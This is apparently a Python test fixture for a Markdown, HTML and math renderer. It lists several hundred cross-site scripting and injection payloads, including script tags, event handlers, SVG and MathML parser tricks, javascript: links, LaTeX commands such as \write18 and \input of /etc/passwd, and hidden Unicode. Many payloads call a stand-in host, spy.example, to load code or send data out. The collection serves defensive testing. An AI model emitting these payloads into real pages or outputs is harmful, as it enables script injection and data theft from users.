"""Texts that a model, or whoever speaks through it, might send to run a script or to call home: more than three hundred
different ones. `RUN` sets a mark that tests look for, `SPY` is an address that nobody may ask."""

from __future__ import annotations

SPY = "https://spy.example/x"
RUN = "window.hacked=1"
CALL = f"fetch('{SPY}')"

# Tags that run, load or send something by themselves.
TAGS = [
    f"<script>{RUN}</script>", f"<script src='{SPY}.js'></script>", f"<script type=module>{RUN}</script>", f"<script\n>{RUN}</script\n>",
    f"<SCRIPT>{RUN}</SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<script>{CALL}</script>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<img src=x onerror='{RUN}'>", f"<img src='{SPY}.png'>", f"<img srcset='{SPY}.png 1x'>", f"<img src=x:x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>", "<img src=x onerror=&#119;indow.hacked=1>", f"<img\tsrc\t=x\tonerror\t={RUN}>", f"<image src={SPY}.png>",
    f"<picture><source srcset='{SPY}.png'><img></picture>", f"<iframe src='{SPY}'></iframe>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<frameset><frame src={SPY}></frameset>", f"<object data='{SPY}'></object>",
    f"<object data=javascript:{RUN}></object>", f"<object><param name=src value={SPY}></object>", f"<embed src='{SPY}'>", f"<applet code={SPY}>",
    f"<link rel=stylesheet href='{SPY}.css'>", f"<link rel=preload as=image href={SPY}.png>", f"<link rel=dns-prefetch href={SPY}>",
    f"<link rel=prefetch href={SPY}>", f"<link rel=icon href={SPY}.ico>", f"<link rel=modulepreload href={SPY}.js>", f"<style>@import '{SPY}.css'</style>",
    f"<style>*{{background:url({SPY})}}</style>", f"<style>@font-face{{font-family:x;src:url({SPY})}}</style>", f"<p style='background:url({SPY})'>x</p>",
    "<p style='position:fixed;inset:0;background:red'>x</p>", f"<meta http-equiv=refresh content='0;url={SPY}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<meta http-equiv=content-security-policy content=\"script-src *\">",
    f"<base href='{SPY}/'>", f"<form action='{SPY}'><button>Go</button></form>", f"<form action=javascript:{RUN}><input type=submit></form>",
    f"<button formaction='{SPY}'>Go</button>", f"<isindex action={SPY}>", f"<input type=image src={SPY}.png>", f"<body background={SPY}.png>",
    f"<table background={SPY}.png><tr><td>x</table>", f"<audio src={SPY}.mp3 autoplay></audio>", f"<video poster={SPY}.png></video>",
    f"<video><source src={SPY}.mp4></video>", f"<video><track default src={SPY}.vtt></video>", f"<bgsound src={SPY}>", f"<a ping={SPY} href={SPY}>x</a>",
    f"<portal src={SPY}></portal>", f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<import src={SPY}>", f"<xml src={SPY}></xml>", f"<layer src={SPY}></layer>", f"<marquee onstart={RUN}>x</marquee>", f"<keygen autofocus onfocus={RUN}>",
]  # fmt: skip

# Handlers that fire without or with the least help of a reader.
HANDLERS = [
    *(
        f"<{tag} {event}='{RUN}'>x</{tag}>"
        for tag, event in [
            ("details open", "ontoggle"), ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"), ("div", "onmouseover"),
            ("div", "onpointerenter"), ("div tabindex=1 autofocus", "onfocus"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"), ("a href=x", "onclick"), ("p", "onanimationstart"), ("p", "ontransitionend"), ("p", "onwheel"),
            ("p", "oncopy"), ("p", "onbeforematch"), ("p", "oncontentvisibilityautostatechange"), ("p", "onscroll"), ("svg", "onload"),
            ("svg", "onbegin"), ("math", "onclick"), ("video", "onloadstart"), ("audio src=x", "onerror"), ("iframe", "onload"), ("object data=x", "onerror"),
            ("link rel=stylesheet href=x", "onerror"), ("style", "onload"), ("script src=x", "onerror"), ("p popover", "onbeforetoggle"), ("br", "onmouseover"),
            ("sub", "onclick"), ("kbd", "onmouseover"), ("mark", "onclick"), ("u", "onclick"), ("s", "onclick"), ("b", "onclick"),
        ]
    ),
    f"<a onclick={RUN}//", f"<img src='1' onerror='{RUN}'", f"<p id=x tabindex=0 onfocus={RUN}></p><a href=#x>x</a>", f"<br onmouseover='{RUN}'><br/>",
]  # fmt: skip

# SVG and MathML, also as what confuses a parser about where HTML begins again.
FOREIGN = [
    f"<svg onload='{RUN}'><circle/></svg>", f"<svg><script>{RUN}</script></svg>", f"<svg><script href='{SPY}.js'/></svg>", f"<svg><script xlink:href={SPY}.js></script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>", f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>", f"<svg><image href={SPY}.png></svg>",
    f"<svg><use href='{SPY}.svg#x'/></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>", f"<svg><foreignObject><iframe src={SPY}></foreignObject></svg>",
    f"<svg><style>@import '{SPY}.css'</style></svg>", f"<svg><style>*{{fill:url({SPY}#x)}}</style></svg>", f"<svg><filter><feImage href={SPY}.png /></filter></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>", f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<?xml version='1.0'?><svg onload={RUN}/>", f"<svg/onload={RUN}>", f"<svg\nonload={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>", f"<math href=javascript:{RUN}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>", f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={RUN} src=1>'></textarea>", f"<math><semantics><annotation encoding=x><script>{RUN}</script></annotation></semantics></math>",
    f"<math><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
]  # fmt: skip

# Shapes that become something else when they are parsed, written and parsed again.
MUTATIONS = [
    f"<noscript><style></noscript><img src=x onerror={RUN}>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>", f"<title></title><img src=x onerror={RUN}>", f"<plaintext><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}> -->", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<!doctype html><script>{RUN}</script>",
    f"<p title=`<img src=x onerror={RUN}>`>", f"<p title='&quot;><img src=x onerror={RUN}>'>", f"<p title=\"'`><img src=x onerror={RUN}>\">", f"</p><img src=x onerror={RUN}>",
    f"</div></main></body><script>{RUN}</script>", f"</template><script>{RUN}</script>", f"</script><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"\"></script><script>{RUN}</script>", f"'-{RUN}-'", f"\";{RUN};//", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% include x %}}<script>{RUN}</script>", f"<a href=\"{SPY}?<b>\" onclick={RUN}>x", f"<select><template><style></select><img src=x onerror={RUN}>", f"<table><td><img src=x onerror={RUN}>",
    f"<a name=x></a><img name=getElementById src=x onerror={RUN}>", "<form id=composer><input name=action></form>", "<img id=bootstrap><a id=bootstrap name=textContent href=x:1>",
    "<div id=messages></div><template id=answer-template></template>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={RUN}&#x3E;", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\\u003cimg src=x onerror={RUN}\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]  # fmt: skip

# Addresses that are no web page, each in every way that Markdown has to write an address.
_ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"&#106;avascript:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}",
    f"java&Tab;script:{RUN}", f"javascript:/*--></title>*/{RUN}", f"javascript://%0a{RUN}", f"\u200bjavascript:{RUN}", f"vbscript:{RUN}", f"livescript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD4{RUN}", f"data:image/svg+xml,<svg onload='{RUN}'/>", f"data:application/javascript,{RUN}", f"blob:{SPY}", f"filesystem:{SPY}", "file:///etc/passwd",
    f"view-source:{SPY}", "about:blank", f"intent://{RUN}#Intent;end", "//spy.example/x", "/accounts/logout/", "?next=//spy.example", "#composer", f"jar:{SPY}!/x", "ws://spy.example/",
]  # fmt: skip
ADDRESSES = [
    *(f"[x]({address})" for address in _ADDRESSES),
    *(f"![x]({address})" for address in _ADDRESSES),
    *(f"[x](<{address}>)" for address in _ADDRESSES[::3]),
    *(f"<{address}>" for address in _ADDRESSES[::2]),
    *(f"[x][r]\n\n[r]: {address}" for address in _ADDRESSES[1::2]),
    *(f"<a href='{address}'>x</a>" for address in _ADDRESSES[::4]),
]

# Markdown itself: what may stand in a place that becomes an attribute, a class or an id, and what draws a picture.
MARKDOWN = [
    f"![alt]({SPY}.png)", f"![alt]({SPY}.png 'title')", f"![][p]\n\n[p]: {SPY}.png", f"[![alt]({SPY}.png)](javascript:{RUN})", f'![x" onerror="{RUN}]({SPY}.png)',
    f"[x]({SPY} \"' onmouseover='{RUN}\")", f"[x]({SPY}\" onmouseover=\"{RUN})", f"[x](<{SPY}\" onclick={RUN}>)", f"[<img src=x onerror={RUN}>]({SPY})",
    f"[x]({SPY})[y](javascript:{RUN})", f"{SPY}\"onmouseover=\"{RUN}", f"<{SPY}\"onclick={RUN}>", f"<me@spy.example\"onclick={RUN}>", f"www.spy.example/<script>{RUN}</script>",
    f"```html\n<script>{RUN}</script>\n```", f'```"><img src=x onerror={RUN}>\ncode\n```', f"```js'onclick='{RUN}\ncode\n```", f"```constructor\n{RUN}\n```", f"```__proto__\n{RUN}\n```",
    f"```../../../../{SPY}\ncode\n```", f"~~~<svg/onload={RUN}>\ncode\n~~~", f"    <script>{RUN}</script>", f"`<img src=x onerror={RUN}>`", f"``<script>`{RUN}`</script>``",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |", f"| a |\n|:-\"onclick={RUN}:|\n| b |", f"|<svg onload={RUN}>|\n|-|\n|![x]({SPY}.png)|",
    f"# <img src=x onerror={RUN}>\n\n> <script>{RUN}</script>\n\n- [ ] <svg onload={RUN}>", f"- [x](javascript:{RUN}) <b onclick={RUN}>", f"1. <li onclick={RUN}>", f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"[^\"onclick={RUN}]\n\n[^\"onclick={RUN}]: x", f"[^1]\n\n[^1]: ![x]({SPY}.png)", f"[ref]: javascript:{RUN}\n\n[ref]", f"[a]: {SPY} \"<script>{RUN}</script>\"\n\n[a]", f"<br onclick={RUN}>", f"<sub><img src=x onerror={RUN}></sub>",
    f"<kbd>{RUN}</kbd><kbd onclick={RUN}>x</kbd>", "\ue2001\ue201 \ue200<b>\ue201 \ue200999999999999\ue201", "\ue200javascript:alert(1)\ue201",
    "> " * 60 + "deep", "- " * 60 + "deep", "*" * 3000, "[" * 2000, "![" * 500 + f"]({SPY}.png)", "`" * 999, "$" * 999, "|" * 999, "<" * 999, "&" * 999, "~" * 999, "\\" * 999, "1. " * 60 + "deep",
]  # fmt: skip

# Formulas: commands that link, load, name attributes, define, draw outside, or never end.
FORMULAS = [
    f"$<img src=x onerror={RUN}>$ and $${SPY}$$", *(
        f"$${command}$$"
        for command in [
            rf"\href{{javascript:{RUN}}}{{x}}", rf"\href{{{SPY}}}{{x}}", rf"\url{{javascript:{RUN}}}", rf"\url{{{SPY}}}", rf"\includegraphics{{{SPY}.png}}",
            rf"\includegraphics[width=9em]{{{SPY}.png}}", rf"\htmlClass{{x}}{{<script>{RUN}</script>}}", r"\htmlId{composer}{x}", rf"\htmlStyle{{background:url({SPY})}}{{x}}",
            rf"\htmlData{{onclick={RUN}}}{{x}}", rf"\htmlData{{x='><img src=x onerror={RUN}>}}{{y}}", r"\def\x{\x\x}\x", r"\def\a{\b\b}\def\b{\a\a}\a", r"\gdef\sin{\href{javascript:1}{x}}\sin",
            r"\newcommand{\x}[1]{#1#1#1}\x{\x{\x{\x{\x{\x{\x{\x{\x{x}}}}}}}}}", r"\let\frac\relax\frac{1}{2}", r"\rule{9999em}{9999em}", r"\kern-9999em x", r"\hspace{-999em}\colorbox{red}{\Huge work}",
            r"\raisebox{-999em}{x}", r"\smash{\raisebox{50em}{\fbox{Answer of work\_claude}}}", r"\llap{xxxxxxxxxxxxxxxxxxxxxxxx}", r"\\[9999em]", r"\color{red;background:url(https://spy.example)}x",
            r"\textcolor{expression(1)}{x}", r"\colorbox{url(https://spy.example)}{x}", rf"\text{{<script>{RUN}</script>}}", rf"\text{{<img src=x onerror={RUN}>}}", rf"\verb|<svg onload={RUN}>|",
            r"\tag{<b onclick=1>}", r"\operatorname{<script>}", rf"\unicode{{x3c}}script>{RUN}", r"\char`\<script>", r"\begin{matrix}" * 50, r"\frac{1}{" * 60, "{" * 500, r"\left(" * 99, r"\sqrt{" * 99,
            "x^" * 200, "x_{" * 99, r"\catcode`\@=11", r"\csname href\endcsname{javascript:1}{x}", r"\input{/etc/passwd}", r"\write18{id}", r"\require{html}", r"\cssId{composer}{x}", r"\style{color:red}{x}", r"\class{x}{y}",
        ]
    ),
]  # fmt: skip

# Characters that hide, turn round or break lines.
CHARACTERS = [
    "\u0000\ufeff\u2028\u202e <script>", f"\u202e<script>{RUN}</script>\u202c", f"\u2066<img src=x onerror={RUN}>\u2069", f"[\u202egnp.exe]({SPY})", f"java\u0000script:{RUN}", f"<\u0000script>{RUN}</script>",
    f"<scr\u0000ipt>{RUN}</script>", f"<img src=x onerror\u3000={RUN}>", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"\u02c2script\u02c3{RUN}", f"<ſcript>{RUN}</ſcript>", f"<ıframe src={SPY}>", "\U0001f600" * 50, "a\u0301\u0302\u0303" * 300,
    f"\u2029<script>{RUN}</script>", f"\x85<script>{RUN}</script>", f"\x0c<script>{RUN}</script>\x0b", f"\x1b]8;;{SPY}\x07x\x1b]8;;\x07", "\u200f\u200e\u061c\u2067work_claude", f"[x](https://sp\u0443.example/\u202e{RUN})",
    f"<img src=x one\u200brror={RUN}>", "\U000e0001\U000e0073\U000e0063", f"\r<script>{RUN}</script>\r\n", "\t" * 500 + "<script>", " " * 500 + "<script>",
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys([*TAGS, *HANDLERS, *FOREIGN, *MUTATIONS, *ADDRESSES, *MARKDOWN, *FORMULAS, *CHARACTERS])
)
